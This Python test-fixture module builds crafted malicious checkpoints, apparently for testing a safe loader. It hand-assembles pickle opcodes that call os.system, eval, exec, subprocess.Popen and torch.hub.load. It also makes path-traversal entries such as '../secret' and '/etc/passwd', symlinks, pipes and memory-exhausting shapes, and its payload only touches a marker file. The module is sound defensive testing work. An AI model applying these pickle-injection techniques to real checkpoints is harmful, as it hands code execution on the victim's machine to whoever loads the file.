"""Checkpoints of other programs that were made to harm whoever reads them.

Each is what someone might send: a pickle that calls a program when it is opened, a path that leads
out of the folder, a size that takes all memory. Reading any of them must end with an error that
names the cause, and with nothing else. The payloads leave a file `PWNED` where they run.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch
import torch.distributed.checkpoint as dcp
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import Metadata

MARK = "PWNED"
"""Name of the file that a payload leaves in the working directory."""


@dataclass(frozen=True, slots=True)
class Crafted:
    """A checkpoint that must be refused.

    Attributes:
        name: what is wrong with it.
        wanted: part of the error that names the cause.
        make: writes it below a folder and returns its path.
    """

    name: str
    wanted: str
    make: Callable[[Path], Path]


def corpus(folder: Path) -> list[tuple[str, Path]]:
    """Write all of them.

    Args:
        folder: exists and is empty.

    Returns: name and path of each.
    """
    found = []
    for number, crafted in enumerate(CASES):
        place = folder / f"{number:02d}"
        place.mkdir()
        found.append((crafted.name, crafted.make(place)))
    return found


# Pickles, opcode by opcode.


def _global(name: str) -> bytes:
    module, _, attribute = name.rpartition(".")
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _program(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def _call(name: str, *arguments: str) -> bytes:
    """Return the opcodes that call a function with texts."""
    return _global(name) + b"(" + b"".join(map(_text, arguments)) + b"tR"


_COMMAND = f"touch {MARK}"
_CODE = f"open({MARK!r}, 'w')"

CALLS: dict[str, bytes] = {
    "posix.system": _call("posix.system", _COMMAND),
    "os.system": _call("os.system", _COMMAND),
    "builtins.eval": _call("builtins.eval", _CODE),
    "__builtin__.eval": _call("__builtin__.eval", _CODE),
    "builtins.exec": _call("builtins.exec", _CODE),
    "builtins.__import__": _call("builtins.__import__", "antigravity"),
    "builtins.getattr": _global("builtins.getattr")
    + b"("
    + _call("builtins.__import__", "os")
    + _text("system")
    + b"tR("
    + _text(_COMMAND)
    + b"tR",
    "builtins.open": _call("builtins.open", MARK, "w"),
    "subprocess.Popen": _call("subprocess.Popen", _COMMAND),
    "subprocess.call": _call("subprocess.call", _COMMAND),
    "functools.partial": _global("functools.partial") + b"(" + _global("os.system") + b"tR",
    "_codecs.decode": _call("_codecs.decode", "x", "rot13"),
    "importlib.import_module": _call("importlib.import_module", "antigravity"),
    "pickle.loads": _global("pickle.loads") + b"(" + b"B\x00\x00\x00\x00" + b"tR",
    "torch.hub.load": _call("torch.hub.load", "attacker/repository", "model"),
    "torch.serialization.load": _call("torch.serialization.load", "other.pt"),
    "torch.jit.load": _call("torch.jit.load", "other.pt"),
    "shutil.rmtree": _call("shutil.rmtree", "no such folder"),
    "operator.attrgetter": _call("operator.attrgetter", "system"),
    "runpy.run_path": _call("runpy.run_path", "other.py"),
    "webbrowser.open": _call("webbrowser.open", "http://localhost"),
    "torch.distributed.checkpoint.metadata.torch": _global(
        "torch.distributed.checkpoint.metadata.torch"
    ),
    "deepspeed.runtime.engine.DeepSpeedEngine": _global("deepspeed.runtime.engine.DeepSpeedEngine")
    + b")R",
}
"""Opcodes by the global that a refusal must name."""

_RECORD = _global("torch.distributed.checkpoint.metadata.Metadata")

METADATA: dict[str, tuple[str, bytes]] = {
    "INST": ("posix.system", _program(b"(" + _text(_COMMAND) + b"iposix\nsystem\n")),
    "OBJ": ("posix.system", _program(b"(" + _global("posix.system") + _text(_COMMAND) + b"o")),
    "NEWOBJ": ("subprocess.Popen", _program(_global("subprocess.Popen") + b"(" + b"t\x81")),
    "NEWOBJ_EX": ("subprocess.Popen", _program(_global("subprocess.Popen") + b")}\x92", 4)),
    "EXT1": ("EXT1", _program(b"\x82\x05")),
    "EXT2": ("EXT2", _program(b"\x83\x05\x00")),
    "EXT4": ("EXT4", _program(b"\x84\x05\x00\x00\x00")),
    "PERSID": ("PERSID", _program(b"P0\n")),
    "BINPERSID": ("outside the pickle", _program(_text("0") + b"Q")),
    "STACK_GLOBAL": (
        "posix.system",
        _program(_text("posix") + _text("system") + b"\x93(" + _text(_COMMAND) + b"tR", 4),
    ),
    "a dotted name": (
        "torch.serialization.os.system",
        _program(_text("torch") + _text("serialization.os.system") + b"\x93", 4),
    ),
    "a name from the memo": (
        "posix.system",
        _program(_text("posix") + b"\x94" + _text("system") + b"\x94h\x00h\x01\x93", 4),
    ),
    "BUILD on a class": (
        "sets",
        _program(_RECORD + b"N}" + _text("field") + _text("x") + b"s\x86b"),
    ),
    "BUILD on a function": (
        "changes a function",
        _program(_global("torch.Size") + b"}" + _text("__defaults__") + b"Nsb"),
    ),
    "a place in the memo": ("remembers", _program(b"Nr\xff\xff\xff\x7f")),
    "bytes that are not there": ("no whole pickle", _program(b"\x8e" + b"\xff" * 7 + b"\x00", 4)),
    "no pickle": ("no whole pickle", b"\xff\xff"),
    "a list in place of the metadata": ("something else", _program(b"]")),
}
"""What stands in `.metadata`: part of the refusal, and the pickle."""


# Directories of torch.distributed.checkpoint.


def _dcp(place: Path) -> Path:
    """Write a good one, to be spoilt."""
    path = place / "dcp"
    state = {"model": {"a": torch.arange(12.0).view(3, 4), "b": torch.ones(5)}, "step": 3}
    dcp.save(state, checkpoint_id=path, no_dist=True)
    return path


def _with_metadata(raw: bytes) -> Callable[[Path], Path]:
    def make(place: Path) -> Path:
        path = _dcp(place)
        (path / ".metadata").write_bytes(raw)
        return path

    return make


def _changed(change: Callable[[Metadata, Path], Any]) -> Callable[[Path], Path]:
    """Let a directory say something else than it holds."""

    def make(place: Path) -> Path:
        path = _dcp(place)
        metadata: Metadata = pickle.loads((path / ".metadata").read_bytes())
        change(metadata, path)
        (path / ".metadata").write_bytes(pickle.dumps(metadata))
        return path

    return make


def _moved(**changes: Any) -> Callable[[Metadata, Path], None]:
    def change(metadata: Metadata, _: Path) -> None:
        for index, info in metadata.storage_data.items():
            if index.fqn == "model.a":
                metadata.storage_data[index] = _StorageInfo(**{**vars(info), **changes})

    return change


def _entry(metadata: Metadata) -> Any:
    return metadata.state_dict_metadata["model.a"]


def _linked(metadata: Metadata, path: Path) -> None:
    (path / "__0_0.distcp").rename(path.parent / "elsewhere")
    (path / "__0_0.distcp").symlink_to(path.parent / "elsewhere")


def _pipe(metadata: Metadata, path: Path) -> None:
    (path / "__0_0.distcp").unlink()
    os.mkfifo(path / "__0_0.distcp")


def _huge(metadata: Metadata, _: Path) -> None:
    entry = _entry(metadata)
    size = torch.Size([1 << 40, 4])
    entry.size = entry.chunks[0].sizes = size


def _hole(metadata: Metadata, _: Path) -> None:
    _entry(metadata).chunks = []


def _negative(metadata: Metadata, _: Path) -> None:
    _entry(metadata).chunks[0].sizes = (-3, -4)


def _bytes_item(body: bytes) -> Callable[[Path], Path]:
    """Put a pickle in place of an object that is no tensor."""

    def change(metadata: Metadata, path: Path) -> None:
        raw = _torch_zip(_program(body))
        (path / "__9_0.distcp").write_bytes(raw)
        for index in metadata.storage_data:
            if index.fqn == "step":
                metadata.storage_data[index] = _StorageInfo("__9_0.distcp", 0, len(raw))

    return _changed(change)


def _long_header(place: Path) -> Path:
    def change(metadata: Metadata, path: Path) -> None:
        (path / "__9_0.distcp").write_bytes(struct.pack("<Q", 1 << 62) + b"{}" * 40)
        _moved(relative_path="__9_0.distcp", offset=0, length=60)(metadata, path)

    return _changed(change)(place)


# Files of torch.save.


def _torch_zip(
    data: bytes, storage: bytes = bytes(64), *, compression: int = zipfile.ZIP_STORED
) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/0", storage)
    return file.getvalue()


def _storage(numel: int, kind: bytes = b"", key: str = "0") -> bytes:
    """Return the opcodes of a storage: its persistent id."""
    kind = kind or _global("torch.FloatStorage")
    parts = _text("storage") + kind + _text(key) + _text("cpu") + _number(numel)
    return b"(" + parts + b"tQ"


def _number(value: int) -> bytes:
    raw = value.to_bytes(9, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def _tuple(values: tuple[int, ...]) -> bytes:
    return b"(" + b"".join(map(_number, values)) + b"t"


def _tensor(storage: bytes, shape: tuple[int, ...], stride: tuple[int, ...], offset: int) -> bytes:
    parts = storage + _number(offset) + _tuple(shape) + _tuple(stride) + b"\x89" + b"N"
    return _global("torch._utils._rebuild_tensor_v2") + b"(" + parts + b"tR"


def _checkpoint(value: bytes, *, weight: bool = False) -> bytes:
    """Return the pickle of a Lightning checkpoint with something in it, or as its weight."""
    weights = b"}" + (_text("w") + value + b"s" if weight else b"")
    body = b"}(" + _text("pytorch-lightning_version") + _text("2.6.0")
    body += _text("state_dict") + weights
    return _program(body + (b"" if weight else _text("callbacks") + value) + b"u")


def _file(data: bytes, **options: Any) -> Callable[[Path], Path]:
    def make(place: Path) -> Path:
        path = place / "file.ckpt"
        path.write_bytes(_torch_zip(data, **options))
        return path

    return make


def _legacy(place: Path) -> Path:
    """What torch.save wrote before its files were zip files: pickles one after the other."""
    path = place / "file.ckpt"
    path.write_bytes(_program(CALLS["posix.system"]))
    return path


def _doubling(num_levels: int) -> bytes:
    """Return lists of two of a list of two of ...: few bytes, 2**num_levels values."""
    body = b"(]q\x00"
    for level in range(num_levels):
        body += b"](h" + bytes([level]) + b"h" + bytes([level]) + b"eq" + bytes([level + 1])
    return body + b"t"


WEIGHTS: dict[str, tuple[str, bytes]] = {
    "a shape of which the file has one element": (
        "in a storage of",
        _tensor(_storage(1), (1 << 40,), (0,), 0),
    ),
    "a shape beyond its storage": ("in a storage of", _tensor(_storage(16), (5, 5), (5, 1), 0)),
    "a negative offset": ("at -4", _tensor(_storage(16), (2,), (1,), -4)),
    "a negative stride": ("stride (-1,)", _tensor(_storage(16), (2,), (-1,), 4)),
    "a shape past all numbers": ("has a tensor", _tensor(_storage(16), (1 << 62, 4), (0, 0), 0)),
    "a storage beyond its bytes": ("points to", _tensor(_storage(1 << 40), (4,), (1,), 0)),
    "a negative storage": ("points to", _tensor(_storage(-1), (4,), (1,), 0)),
    "a storage elsewhere": (
        "missing",
        _tensor(_storage(4, key="../../secret"), (4,), (1,), 0),
    ),
    "a storage of another kind": (
        "builtins.open",
        _tensor(_storage(4, _global("builtins.open")), (4,), (1,), 0),
    ),
    "a tensor made by another function": (
        "posix.system",
        _global("torch._tensor._rebuild_from_type_v2")
        + b"("
        + _global("posix.system")
        + _global("torch.Tensor")
        + b"("
        + _text(_COMMAND)
        + b"t}tR",
    ),
    "a text in place of a tensor": ("no tensor", _text("w")),
}
"""What stands in place of a weight: part of the refusal, and the opcodes."""


# Directories of DeepSpeed.


def _deepspeed(place: Path, latest: str = "tag") -> Path:
    path = place / "deepspeed"
    (path / "tag").mkdir(parents=True)
    (path / "latest").write_text(latest)
    for name in ("zero_pp_rank_0_mp_rank_00_optim_states.pt", "mp_rank_00_model_states.pt"):
        (path / "tag" / name).write_bytes(_torch_zip(_program(b"}")))
    return path


def _deepspeed_call(name: str, file: str) -> Callable[[Path], Path]:
    def make(place: Path) -> Path:
        path = _deepspeed(place)
        (path / "tag" / file).write_bytes(_torch_zip(_program(CALLS[name])))
        return path

    return make


def _linked_tag(place: Path) -> Path:
    path = _deepspeed(place)
    (path / "tag").rename(place / "elsewhere")
    (path / "tag").symlink_to(place / "elsewhere")
    return path


_OPTIMIZER_FILE = "zero_pp_rank_0_mp_rank_00_optim_states.pt"

CASES: tuple[Crafted, ...] = (
    *(
        Crafted(f"{name} in a Lightning file", name, _file(_checkpoint(body)))
        for name, body in CALLS.items()
    ),
    *(
        Crafted(f"{name} in .metadata", name, _with_metadata(_program(CALLS[name])))
        for name in ("posix.system", "builtins.eval", "builtins.getattr", "torch.hub.load")
    ),
    *(
        Crafted(f"{name} in an object of torch.distributed", name, _bytes_item(CALLS[name]))
        for name in ("os.system", "functools.partial")
    ),
    *(
        Crafted(f"{name} in DeepSpeed's optimizer", name, _deepspeed_call(name, _OPTIMIZER_FILE))
        for name in ("os.system", "deepspeed.runtime.engine.DeepSpeedEngine")
    ),
    *(
        Crafted(f"{name} in .metadata", wanted, _with_metadata(raw))
        for name, (wanted, raw) in METADATA.items()
    ),
    *(
        Crafted(name, wanted, _file(_checkpoint(body, weight=True)))
        for name, (wanted, body) in WEIGHTS.items()
    ),
    Crafted("a path upwards", "'../secret'", _changed(_moved(relative_path="../secret"))),
    Crafted("an absolute path", "'/etc/passwd'", _changed(_moved(relative_path="/etc/passwd"))),
    Crafted("a path with a zero byte", "inside", _changed(_moved(relative_path="a\0b"))),
    Crafted("a file that is missing", "missing", _changed(_moved(relative_path="__7_7.distcp"))),
    Crafted("a part before its file", "points to", _changed(_moved(offset=-8))),
    Crafted("a part behind its file", "points to", _changed(_moved(length=1 << 40))),
    Crafted("a part through a filter", "compressed", _changed(_moved(transform_descriptors=["z"]))),
    Crafted("a link in place of a file", "link", _changed(_linked)),
    Crafted("a pipe in place of a file", "regular file", _changed(_pipe)),
    Crafted("a tensor larger than its file", "in", _changed(_huge)),
    Crafted("a tensor with a hole", "each element once", _changed(_hole)),
    Crafted("a part of a negative size", "each element once", _changed(_negative)),
    Crafted("a header longer than its file", "header", _long_header),
    Crafted("a name upwards in latest", "'../elsewhere'", lambda p: _deepspeed(p, "../elsewhere")),
    Crafted("an absolute name in latest", "'/etc'", lambda p: _deepspeed(p, "/etc")),
    Crafted("a link in place of DeepSpeed's folder", "link", _linked_tag),
    Crafted("no optimizer in DeepSpeed's files", "optimizer_state_dict", _deepspeed),
    Crafted("more values than exist", "too large", _file(_checkpoint(_doubling(60)))),
    Crafted("lists in lists", "too deeply", _file(_checkpoint(b"]" * 5000 + b"a" * 4999))),
    Crafted("a list in itself", "too deeply", _file(_checkpoint(b"]q\x00h\x00a"))),
    Crafted(
        "a compressed file",
        "compressed",
        _file(_checkpoint(b"}"), compression=zipfile.ZIP_DEFLATED),
    ),
    Crafted("a file from before torch wrote zip files", "zip file", _legacy),
)
